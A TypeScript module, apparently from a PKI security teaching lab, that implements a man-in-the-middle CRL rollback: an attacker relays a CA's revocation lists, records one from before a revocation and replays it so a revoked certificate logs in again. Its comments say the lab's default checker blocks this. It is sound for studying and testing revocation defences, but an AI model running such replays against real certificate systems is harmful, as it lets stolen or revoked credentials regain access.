/**
 * crl-rollback: Trudy on the path between Blackboard and the CA records the CA's CRL from before a
 * revocation and, once the revocation has reached Blackboard, answers every later CRL fetch with
 * that older CRL, so that a revoked cert 2 gets in again. Trudy holds that certificate's key: it
 * was stolen (the reason it was revoked), or she is the student whose certificate was revoked.
 *
 *     1  Trudy logs in to Blackboard with the (still valid) cert 2 until a CRL passes on her path
 *        from the CA to Blackboard: she records it (it does not list cert 2).
 *     2  The CA revokes cert 2. Trudy keeps logging in; the CA's newer CRL passes to Blackboard,
 *        which refuses her: the revocation has arrived.
 *     3  From now on Trudy answers each of Blackboard's CRL fetches with the recorded CRL: still
 *        signed by the root and not past its nextUpdate, only older. She logs in again.
 *
 * The default checker (lib/pki's `RevocationChecker`) refuses a CRL whose number or thisUpdate goes
 * backwards and keeps the newer one it holds: Blackboard refuses cert 2 again. A checker that takes
 * any CRL the root signed lets her in. The seeds had no revocation at all: there a stolen cert 2
 * was never refused in the first place, so this attack has no seed-mode half.
 *
 * What the default does not stop, and this attack does not claim: Trudy on the path *when the
 * revocation is published* can withhold every newer CRL, and Blackboard, which never saw one, keeps
 * the older CRL until its nextUpdate (the CA's CRLs are valid for an hour); then it fails closed.
 * Closing that window takes a CRL fetch bound to a fresh nonce (as OCSP can do), in the CA's
 * protocol.
 */

import {
  type AttackServer,
  type ConnectionAttack,
  startRelayAttack,
  type Verdict,
  VerdictQueue,
} from "./attack.ts";
import { caProtocol, type StudentIdentity } from "../ca/mod.ts";
import { BLACKBOARD_NAME, openSession } from "../blackboard/mod.ts";
import { type Crl, crlNumber, parseCrl } from "../pki/mod.ts";
import { errorMessage, type HostPort, StepLog } from "../runtime/mod.ts";
import { PeerRefusedError } from "../wire/mod.ts";

/** What Trudy sends once she is in. */
export const ROLLBACK_MESSAGE = "Trudy is back in with a revoked certificate";

export interface CrlRollbackOptions {
  /** The real CA, upstream of Trudy's relay (Blackboard's --ca points at Trudy's port). */
  ca: HostPort;
  /** Blackboard, where Trudy logs in with the stolen certificate. */
  blackboard: HostPort;
  /** The stolen cert 2 and its key. */
  identity: StudentIdentity;
  /** The CN Blackboard's certificate must carry (default "blackboard"). */
  blackboardName?: string;
  log: StepLog;
  port?: number;
  /** The address to listen on (default 127.0.0.1). */
  hostname?: string;
  /** Between login attempts while Trudy waits for something to happen (default 500 ms). */
  intervalMs?: number;
  /** How long she waits for each phase: a CRL to record, the revocation, a replay (default 120 s). */
  waitMs?: number;
  message?: string;
  signal?: AbortSignal;
}

type Phase = "record" | "await-revocation" | "replay" | "done";

interface State {
  phase: Phase;
  serial: string;
  recorded?: { crl: Crl; frame: Uint8Array };
  /** The newest CRL seen that lists the stolen certificate. */
  newer?: Crl;
  /** Recorded CRLs sent in place of the CA's. */
  replayed: number;
  /** The CA's first CRL, when it already listed the stolen certificate. */
  tooLate?: Crl;
}

function decode(frame: Uint8Array) {
  try {
    return caProtocol.decode(frame);
  } catch {
    return undefined;
  }
}

function lists(crl: Crl, serial: string): boolean {
  return crl.entries.some((e) => e.serialNumber.toLowerCase() === serial);
}

type Attempt =
  | { kind: "accepted" }
  | { kind: "revoked" | "unavailable" | "refused" | "unreachable"; reason: string };

/**
 * Starts Trudy's relay in front of the CA and her login attempts at Blackboard; one verdict, when
 * the attack has run its course.
 */
export function startCrlRollback(options: CrlRollbackOptions): AttackServer<Verdict> {
  const { log, identity } = options;
  const sid = identity.sid;
  const intervalMs = options.intervalMs ?? 500;
  const waitMs = options.waitMs ?? 120_000;
  const message = options.message ?? ROLLBACK_MESSAGE;
  const state: State = {
    phase: "record",
    serial: identity.cert.serialNumber.toLowerCase(),
    replayed: 0,
  };
  const stopped = new AbortController();
  options.signal?.addEventListener("abort", () => stopped.abort(), { once: true });

  const relay = startRelayAttack<Verdict>({
    upstream: options.ca,
    log,
    ...(options.port !== undefined ? { port: options.port } : {}),
    ...(options.hostname !== undefined ? { hostname: options.hostname } : {}),
    signal: stopped.signal,
    attack: (_session, clog): ConnectionAttack<Verdict> => ({
      onFrame(direction, frame) {
        const msg = direction === "toClient" ? decode(frame) : undefined;
        if (msg?.type !== "crl") return frame;
        let crl: Crl;
        try {
          crl = parseCrl(msg.crl);
        } catch {
          return frame;
        }
        const n = crlNumber(crl) ?? "?";
        const listed = lists(crl, state.serial);
        if (state.phase === "replay" && state.recorded) {
          state.replayed++;
          clog.step(
            "R3",
            `replaced the CA's CRL #${n} with the recorded CRL #${
              crlNumber(state.recorded.crl) ?? "?"
            } (from before the revocation, still signed by the root and not expired)`,
          );
          return state.recorded.frame;
        }
        if (!state.recorded) {
          if (listed) {
            state.tooLate ??= crl;
            clog.info(`the CA's CRL #${n} already lists cert 2 of ${sid}: nothing older to record`);
            return frame;
          }
          state.recorded = { crl, frame };
          clog.step(
            "R1",
            `recorded the CA's CRL #${n} on its way to Blackboard (${crl.entries.length} revoked, cert 2 of ${sid} not among them; valid until ${crl.nextUpdate?.toISOString()})`,
          );
          return frame;
        }
        if (listed && (!state.newer || (crlNumber(state.newer) ?? 0) < (crlNumber(crl) ?? 0))) {
          state.newer = crl;
          clog.step(
            "R2",
            `the CA's CRL #${n} lists cert 2 of ${sid} (serial ${state.serial}): passed on to Blackboard`,
          );
        }
        return frame;
      },
      finish: () => ({ succeeded: false, reason: "no-victim", detail: "one CRL fetch relayed" }),
    }),
  });
  log.info(
    `relaying Blackboard's CRL fetches to the CA at ${options.ca.hostname}:${options.ca.port}`,
  );

  const quiet = new StepLog(`Trudy as ${sid}`, { quiet: true });
  const attempt = async (): Promise<Attempt> => {
    try {
      using session = await openSession({
        blackboard: options.blackboard,
        identity,
        log: quiet,
        blackboardName: options.blackboardName ?? BLACKBOARD_NAME,
      });
      await session.send(message);
      return { kind: "accepted" };
    } catch (err) {
      const reason = errorMessage(err);
      if (err instanceof PeerRefusedError) {
        if (/has been revoked/.test(reason)) return { kind: "revoked", reason };
        if (/cannot check revocation/i.test(reason)) return { kind: "unavailable", reason };
        return { kind: "refused", reason };
      }
      if (/^Cannot reach Blackboard/.test(reason)) return { kind: "unreachable", reason };
      return { kind: "refused", reason };
    }
  };
  const pause = () =>
    new Promise<void>((resolve) => {
      const timer = setTimeout(done, intervalMs);
      function done() {
        clearTimeout(timer);
        stopped.signal.removeEventListener("abort", done);
        resolve();
      }
      stopped.signal.addEventListener("abort", done, { once: true });
    });

  const SEEDS = "the seeds had no CRL at all: there a stolen cert 2 was never refused";
  const run = async (): Promise<Verdict> => {
    const fail = (reason: Verdict["reason"], detail: string): Verdict => ({
      succeeded: false,
      reason,
      detail,
    });
    // 1: log in with the stolen certificate until a CRL from before the revocation is recorded.
    let deadline = Date.now() + waitMs;
    let unreachable = false;
    while (!state.recorded) {
      if (stopped.signal.aborted) return fail("no-victim", "stopped before a CRL passed");
      if (state.tooLate) {
        return fail(
          "no-older-crl",
          `the first CRL on the path (#${
            crlNumber(state.tooLate) ?? "?"
          }) already lists cert 2 of ${sid}: Trudy has no older CRL to replay (${SEEDS})`,
        );
      }
      if (Date.now() > deadline) {
        return fail(
          "no-crl-on-path",
          `no CRL passed Trudy's path within ${
            waitMs / 1000
          } s: point Blackboard's --ca at Trudy's port`,
        );
      }
      const a = await attempt();
      if (a.kind === "unreachable") {
        if (!unreachable) log.info(`${a.reason}: trying again every ${intervalMs} ms`);
        unreachable = true;
      } else if (a.kind === "accepted") {
        log.step("R1", `logged in to Blackboard as ${sid} with the stolen cert 2: accepted`);
      } else if (a.kind !== "revoked") {
        log.info(`Blackboard refused the login: ${a.reason}`);
      }
      if (!state.recorded) await pause();
    }
    // 2: wait until the revocation has reached Blackboard (Trudy is refused).
    state.phase = "await-revocation";
    log.info(`waiting for the revocation of cert 2 of ${sid} to reach Blackboard`);
    deadline = Date.now() + waitMs;
    for (;;) {
      if (stopped.signal.aborted) return fail("no-victim", "stopped before the revocation");
      if (Date.now() > deadline) {
        return fail(
          "never-revoked",
          `cert 2 of ${sid} was still accepted ${
            waitMs / 1000
          } s later: it was never revoked, nothing to roll back`,
        );
      }
      const a = await attempt();
      if (a.kind === "revoked") {
        log.step("R2", `Blackboard now refuses cert 2 of ${sid}: ${a.reason}`);
        break;
      }
      await pause();
    }
    // 3: replay the recorded CRL to each fetch, and log in again once one went in.
    state.phase = "replay";
    const old = crlNumber(state.recorded.crl) ?? "?";
    const newer = state.newer ? `CRL #${crlNumber(state.newer) ?? "?"}` : "the newer CRL";
    log.step("R3", `from now on Blackboard's CRL fetches get the recorded CRL #${old}`);
    deadline = Date.now() + waitMs;
    for (;;) {
      if (stopped.signal.aborted) return fail("no-victim", "stopped before a replay");
      const before = state.replayed;
      const a = await attempt();
      if (a.kind === "accepted") {
        return {
          succeeded: true,
          reason: "revoked-cert-accepted",
          detail:
            `Blackboard took the recorded CRL #${old} (from before the revocation) in place of ${newer}: the revoked cert 2 of ${sid} got in again and '${message}' was accepted (${SEEDS})`,
        };
      }
      if (state.replayed > before) {
        if (a.kind === "revoked") {
          return fail(
            "rollback-refused",
            `Blackboard refused the recorded CRL #${old}, older than ${newer} it holds, and kept the newer one: cert 2 of ${sid} stays refused: ${a.reason} (${SEEDS})`,
          );
        }
        if (a.kind === "unavailable") {
          return fail(
            "revocation-unavailable",
            `Blackboard refused the recorded CRL #${old} and failed closed: ${a.reason} (${SEEDS})`,
          );
        }
        return fail("login-failed", `the login after the replay failed: ${a.reason}`);
      }
      if (Date.now() > deadline) {
        return fail(
          "no-crl-on-path",
          `Blackboard fetched no CRL through Trudy within ${waitMs / 1000} s after the revocation`,
        );
      }
      await pause();
    }
  };

  const queue = new VerdictQueue<Verdict>();
  const finished = run().catch((err): Verdict => ({
    succeeded: false,
    reason: "login-failed",
    detail: `the attack failed: ${errorMessage(err)}`,
  })).then((v) => {
    state.phase = "done";
    queue.push(v);
  });
  const close = async () => {
    stopped.abort();
    await finished;
    await relay.close();
  };
  return {
    port: relay.port,
    nextVerdict: () => queue.next(),
    verdicts: queue.all,
    close,
    [Symbol.asyncDispose]: close,
  };
}
